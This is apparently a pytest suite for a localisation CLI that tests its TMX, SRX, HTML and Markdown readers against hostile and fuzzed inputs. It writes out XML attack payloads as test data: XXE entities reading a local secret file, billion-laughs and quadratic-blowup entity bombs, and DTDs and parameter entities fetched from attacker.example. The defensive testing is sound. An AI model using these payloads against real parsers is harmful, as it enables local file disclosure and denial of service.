"""Hostile and broken files through the CLI: XML/HTML attacks in every reader, and fuzzing
of TMX, HTML and Markdown (hypothesis, and mutations of real files).

The outcome is always a clear one-line error with exit 2 or correct processing — never a
traceback, a hang, a partial write, an expanded entity or a network access.
"""

from __future__ import annotations

import random
import re
import signal
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import REPO, require_corpora, temporaries, write

from l10n.catalog import pofile
from l10n.commands.init import init
from l10n.errors import L10nError
from l10n.proposals import tmx

pytestmark = pytest.mark.slow  # kills, races, fuzzing and soaks: the full suite only

SECRET = "TOP-SECRET-LINE"  # the content of a local file an XXE payload points at


@pytest.fixture(autouse=True)
def no_network(monkeypatch) -> list[str]:
    """Every socket connection and DNS lookup raises, and is written down."""
    from nonetwork.sitecustomize import install
    attempts: list[str] = []
    install(monkeypatch.setattr, attempts.append)
    yield attempts
    assert attempts == []


@contextmanager
def deadline(seconds: float):
    """A generous bound against hangs: a case still running after `seconds` fails."""
    def expire(signum, frame):
        raise TimeoutError(f"still running after {seconds} s")
    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def snapshot(folder: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def one_line_error(result) -> None:
    assert result.err.startswith("l10n: error: ") and result.err.count("\n") == 1, result.err


# -- XML and HTML attacks, reader by reader ---------------------------------------------------

def lol(levels: int = 9) -> str:
    """A "billion laughs" internal subset: 10^levels copies of "lol"."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels + 1)]
    return "".join(entities)


def tmx_doc(seg: str, doctype: str = "", extra: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}{extra}<tmx version="1.4">'
            '<header srclang="fr" datatype="plaintext" segtype="sentence" o-tmf="x" '
            'adminlang="en" creationtool="t" creationtoolversion="1"/><body><tu>'
            f'<tuv xml:lang="fr"><seg>{seg}</seg></tuv><tuv xml:lang="en"><seg>Hello.</seg>'
            '</tuv></tu></body></tmx>\n')


HOSTILE_TMX = {
    "external entity": tmx_doc("&xxe;", '<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "{secret}">]>'),
    "billion laughs": tmx_doc("&lol9;", f"<!DOCTYPE tmx [{lol()}]>"),
    "quadratic blowup": tmx_doc("&a;" * 500, f'<!DOCTYPE tmx [<!ENTITY a "{"x" * 5000}">]>'),
    "parameter entity from the network": tmx_doc(
        "Bonjour.", '<!DOCTYPE tmx [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'),
    "entities after a comment": tmx_doc("&xxe;", '<!-- hi -->\n<!DOCTYPE tmx [<!ENTITY xxe '
                                        'SYSTEM "{secret}">]>'),
    "undeclared entity": tmx_doc("&xxe;"),
    "external DTD on the network": tmx_doc(
        "Bonjour.", '<!DOCTYPE tmx SYSTEM "http://attacker.example/tmx14.dtd">'),
    "public DTD": tmx_doc("Bonjour.", '<!DOCTYPE tmx PUBLIC "-//LISA OSCAR:1998//DTD for '
                                      'Translation Memory eXchange//EN" "http://x.example/t.dtd">'),
    "XInclude": tmx_doc('Bonjour.<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                        'href="{secret}" parse="text"/>'),
    "stylesheet PI": tmx_doc("Bonjour.", "", '<?xml-stylesheet href="http://x.example/s.xsl"?>'),
    "utf-16 external entity": "utf16:" + tmx_doc(
        "&xxe;", '<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "{secret}">]>').replace("UTF-8", "UTF-16"),
}


@pytest.fixture
def secret(tmp_path) -> str:
    return write(tmp_path / "secret.txt", SECRET + "\n").as_uri()


@pytest.mark.parametrize("case", HOSTILE_TMX)
def test_hostile_tmx_is_refused_or_read_without_expansion(case, workspace, run, tmp_path,
                                                           secret):
    text = HOSTILE_TMX[case].replace("{secret}", secret)
    data = text[6:].encode("utf-16") if text.startswith("utf16:") else text.encode()
    path = write(tmp_path / "in.tmx", data)
    with deadline(60):
        result = run("tm", "import", path, cwd=workspace)
    if result.code == 2:
        one_line_error(result)
        assert not (workspace / "tm").exists() or not any((workspace / "tm").iterdir())
        return
    assert result.code == 0, result.err
    with deadline(60):
        found = run("tm", "lookup", "Bonjour.", "--from", "fr", "--to", "en", cwd=workspace)
    assert found.code == 0 and "Hello." in found.out
    memory = (workspace / ".l10n/memory.json").read_text()
    assert SECRET not in memory and "lollol" not in memory and len(memory) < 10_000


def page(body: str, doctype: str = "<!DOCTYPE html>") -> str:
    return (f'{doctype}\n<html lang="fr"><head><meta charset="utf-8"><title>Titre</title>'
            '<link rel="stylesheet" href="http://attacker.example/s.css">'
            '<script src="http://attacker.example/x.js"></script></head>\n'
            f'<body>\n<p>{body}</p>\n<img src="http://attacker.example/p.png" alt="Une image.">'
            '\n</body></html>\n')


HOSTILE_PAGES = {
    "xhtml-external-entity.xhtml": page(
        "Bonjour &xxe; et au revoir.",
        '<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY xxe SYSTEM "{secret}">]>'),
    "xhtml-billion-laughs.xhtml": page("Rire : &lol9;.", f'<!DOCTYPE html [{lol()}]>'),
    "xhtml-network-dtd.xhtml": page(
        "Bonjour.", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
                    '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'),
    "xhtml-parameter-entity.xhtml": page(
        "Bonjour.", '<!DOCTYPE html [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'),
    "html-entities.html": page("Bonjour &xxe; &lol9; &amp; &eacute;t&eacute;."),
    "html-iframe-and-svg.html": page(
        'Voir <iframe src="http://attacker.example/"></iframe> et <svg><image '
        'href="http://attacker.example/i.png"/></svg> ici.'),
    "markdown-inline-html.md": (
        '<!DOCTYPE html [<!ENTITY xxe SYSTEM "{secret}">]>\n\n# Titre &xxe;\n\n'
        'Bonjour <span title="&lol9;">&xxe;</span> et '
        '<img src="http://attacker.example/p.png" alt="image">.\n\n'
        f'<div>{lol()}</div>\n\n![Une image](http://attacker.example/p.png "Titre")\n'),
}


@pytest.mark.parametrize("name", HOSTILE_PAGES)
def test_hostile_pages_are_processed_without_expansion_or_network(name, workspace, run, secret):
    source = write(workspace / f"sources/fr/{name}", HOSTILE_PAGES[name].replace("{secret}",
                                                                                 secret))
    with deadline(60):
        result = run("update", cwd=workspace)
    if result.code == 2:
        one_line_error(result)
        assert snapshot(workspace / "translations") == {}
        return
    assert result.code == 0, result.err
    po_text = "".join(p.read_text() for p in (workspace / "translations").rglob("*.po"))
    assert SECRET not in po_text and "lollol" not in po_text and len(po_text) < 20_000
    with deadline(60):
        built = run("build", "--allow-partial", cwd=workspace)
    assert built.code == 0, built.err
    output = (workspace / "build/en" / name).read_text()
    assert SECRET not in output and "lollol" not in output
    assert len(output) < 2 * len(source.read_text()) + 200  # references kept as written
    for reference in ("&xxe;", "&lol9;"):
        assert output.count(reference) == source.read_text().count(reference)


SRX = ('<?xml version="1.0"?>\n{doctype}<srx version="2.0" xmlns="http://www.lisa.org/srx20">'
       '<header segmentsubflows="yes" cascade="yes"/><body><languagerules><languagerule '
       'languagerulename="fr"><rule break="yes"><beforebreak>{before}</beforebreak><afterbreak>'
       '\\s</afterbreak></rule></languagerule></languagerules><maprules><languagemap '
       'languagepattern="fr.*" languagerulename="fr"/></maprules></body></srx>\n')


@pytest.mark.parametrize("doctype, before", [
    ('<!DOCTYPE srx [<!ENTITY xxe SYSTEM "{secret}">]>', "&xxe;"),
    (f"<!DOCTYPE srx [{lol()}]>", "&lol9;"),
    ('<!DOCTYPE srx SYSTEM "http://attacker.example/srx20.dtd">', "\\."),
])
def test_hostile_srx_rules_are_refused_or_read_without_expansion(doctype, before, workspace,
                                                                 run, secret):
    write(workspace / "rules.srx", SRX.format(doctype=doctype.replace("{secret}", secret),
                                              before=before))
    (workspace / "l10n.toml").write_text('[segmentation]\nsrx = "rules.srx"\n')
    write(workspace / "sources/fr/a.txt", "Bonjour. Au revoir.\n")
    with deadline(60):
        result = run("update", cwd=workspace)
    if result.code == 2:
        one_line_error(result)
        assert "rules.srx" in result.err
        return
    assert result.code == 0, result.err
    assert [e.msgid for e in pofile.read(workspace / "translations/en/a.po").entries] == \
        ["Bonjour.", "Au revoir."]


# -- fuzzing TMX -------------------------------------------------------------------------

def mutations(data: bytes, seed: int) -> list[bytes]:
    """Truncated, bytes flipped, markup inserted, re-encoded, doubled, line ends changed."""
    rng = random.Random(seed)
    out = [data[: rng.randrange(len(data) + 1)]]
    flipped = bytearray(data)
    for _ in range(rng.randrange(1, 8)):
        if flipped:
            flipped[rng.randrange(len(flipped))] = rng.randrange(256)
    out.append(bytes(flipped))
    cut = rng.randrange(len(data) + 1)
    out.append(data[:cut] + rng.choice(
        [b"<", b">", b"&", b"&amp", b"]]>", b"<!--", b"<![CDATA[", b"</", b"<tu>", b"\x00",
         b"<seg>", b"\xff\xfe", b'"', b"<!DOCTYPE x>", b"<p>", b"</p>", b"```", b"> ", b"*"])
        + data[cut:])
    text = data.decode("utf-8", "replace")
    out.append(rng.choice([text.encode("latin-1", "replace"), text.encode("utf-16-le"),
                           text.encode("utf-16"), text.encode("cp1256", "replace"),
                           text.encode("utf-32")]))
    start = rng.randrange(len(data) + 1)
    out.append(data[:start] + rng.randbytes(rng.randrange(1, 64)) + data[start:])
    return out


def tmx_files() -> list[Path]:
    return sorted((require_corpora() / "tmx").rglob("*.tmx"))


def parsed_or_refused(data: bytes, name: str) -> str:
    try:
        tmx.parse(data, name)
    except L10nError as error:
        assert error.path == name
        return "refused"
    return "read"


def test_mutated_real_tmx_files_are_read_or_refused_clearly():
    outcomes = {"read": 0, "refused": 0}
    for sample in tmx_files():
        data = sample.read_bytes()
        for seed in range(25):
            for mutated in mutations(data, seed):
                outcomes[parsed_or_refused(mutated, sample.name)] += 1
    print(f"mutated TMX through tmx.parse: {outcomes}")  # shown with pytest -s
    assert sum(outcomes.values()) == 33 * 25 * 5 and min(outcomes.values()) > 500, outcomes


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=600) | st.builds(
    lambda head, seg, tail: (head + tmx_doc(seg) + tail).encode("utf-8", "surrogatepass"),
    st.text(max_size=40), st.text(max_size=80), st.text(max_size=40)))
def test_any_bytes_are_a_memory_or_a_clear_error(data):
    parsed_or_refused(data, "fuzz.tmx")


def test_mutated_tmx_through_tm_import_never_leave_a_partial_copy(workspace, run):
    cases = {0: 0, 2: 0}
    for number, sample in enumerate(tmx_files()):
        for mutated in mutations(sample.read_bytes(), 1000 + number)[:4]:
            path = write(workspace.parent / "incoming" / sample.name, mutated)
            with deadline(60):
                result = run("tm", "import", path, cwd=workspace)
            assert result.code in (0, 2), result.err
            cases[result.code] += 1
            copies = list((workspace / "tm").glob("*")) if (workspace / "tm").exists() else []
            if result.code == 2:
                one_line_error(result)
                assert copies == []
            else:
                assert [c.read_bytes() for c in copies] == [mutated]
                assert run("tm", "lookup", "x", "--from", "fr", "--to", "en",
                           cwd=workspace).code in (0, 1)
            assert temporaries(workspace) == []
            for copy in copies:
                copy.unlink()
    print(f"mutated TMX through tm import, by exit code: {cases}")
    assert cases[0] > 20 and cases[2] > 20, cases


# -- fuzzing HTML and Markdown sources through update and build -----------------------------

def samples() -> list[Path]:
    """The text documents of the sample and the fixtures (packages have their own hostile
    cases in tests/formats/test_package.py)."""
    from l10n import formats
    return sorted(p for p in [*REPO.glob("sources/fr/*.html"),
                              *REPO.glob("tests/formats/fixtures/*")]
                  if not formats.for_path(p).BINARY)


def extremes(data: bytes, suffix: str) -> list[bytes]:
    """Deeply nested markup, an enormous line, unclosed tags."""
    text = data.decode("utf-8")
    if suffix == ".md":
        nested = ">" * 5000 + " " + text + "\n" + "".join("  " * i + "- a\n" for i in range(500))
        unclosed = text.replace("**", "").replace("`", "``` ").replace("]", "")
    else:
        nested = "<div><span>" * 3000 + text + "</span>"
        unclosed = re.sub(r"</[^>]*>", "", text)  # every closing tag gone
    huge = text.replace("\n", " ", 3) + " Le ministre a reçu la délégation" * 30_000 + "\n"
    return [nested.encode(), huge.encode(), unclosed.encode()]


def updated_and_built(root: Path, run, name: str, data: bytes) -> str:
    """Update then build one source; every outcome checked. Returns "built" or "refused"."""
    init(root)
    source = write(root / f"sources/fr/{name}", data)
    with deadline(120):
        result = run("update", cwd=root)
    assert result.code in (0, 2), result.err
    assert temporaries(root) == []
    if result.code == 2:
        one_line_error(result)
        assert source.name in result.err
        assert snapshot(root / "translations") == {}  # no partial write
        return "refused"
    for po in (root / "translations").rglob("*.po"):
        pofile.read(po)
    with deadline(120):
        built = run("build", "--allow-partial", cwd=root)
    assert built.code == 0, built.err
    assert temporaries(root) == []
    for lang in ("en", "ar"):
        output = (root / "build" / lang / name).read_bytes()
        assert len(output) < 2 * len(data) + 500
    return "built"


def test_mutated_and_extreme_pages_update_and_build_or_fail_clearly(tmp_path, run):
    outcomes = {"built": 0, "refused": 0}
    count = 0
    for sample in samples():
        data = sample.read_bytes()
        cases = extremes(data, sample.suffix)
        for seed in range(12):
            cases += mutations(data, seed)
        for mutated in cases:
            count += 1
            outcomes[updated_and_built(tmp_path / f"case{count}", run, sample.name,
                                       mutated)] += 1
    print(f"mutated and extreme pages through update and build: {outcomes}")
    assert count == len(samples()) * (3 + 12 * 5) and min(outcomes.values()) > 20, outcomes


@settings(max_examples=120, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(suffix=st.sampled_from([".html", ".md", ".xhtml"]),
       data=st.binary(max_size=300) | st.lists(st.sampled_from(
           ["<p>", "</p>", "<b>", "</b>", "<div>", "<!--", "-->", "<![CDATA[", "&amp;", "&x;",
            "<br/>", "# ", "> ", "* ", "`", "```\n", "[a](b)", "![i](s)", "|a|b|\n|-|-|\n",
            "\n", "\n\n", "Bonjour. ", "Le 3 mars.", "مرحبا. ", "<html lang='fr'>", "---\n",
            "<script>", "</script>", "<title>", "\ufeff", "\x00", "\r"]), max_size=40).map(
           lambda parts: "".join(parts).encode("utf-8")))
def test_any_markup_updates_and_builds_or_fails_clearly(tmp_path_factory, run, suffix, data):
    updated_and_built(tmp_path_factory.mktemp("fuzz"), run, f"x{suffix}", data)
